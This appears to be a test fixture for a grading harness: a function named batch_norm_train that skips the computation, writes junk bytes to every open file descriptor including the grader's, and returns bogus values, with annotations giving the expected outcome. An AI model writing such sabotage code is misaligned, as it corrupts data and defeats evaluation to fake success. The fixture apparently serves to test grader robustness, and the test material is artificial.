# Writes junk to every open file, the grader's among them.
# expect: 17 test_train=0
# rest: right

# %% train
import os


def batch_norm_train(x, gamma, beta, eps=1e-5):
    for fd in range(256):
        try:
            os.write(fd, bytes(range(256)) * 40)
        except OSError:
            pass
    return x, x[0], x[0]
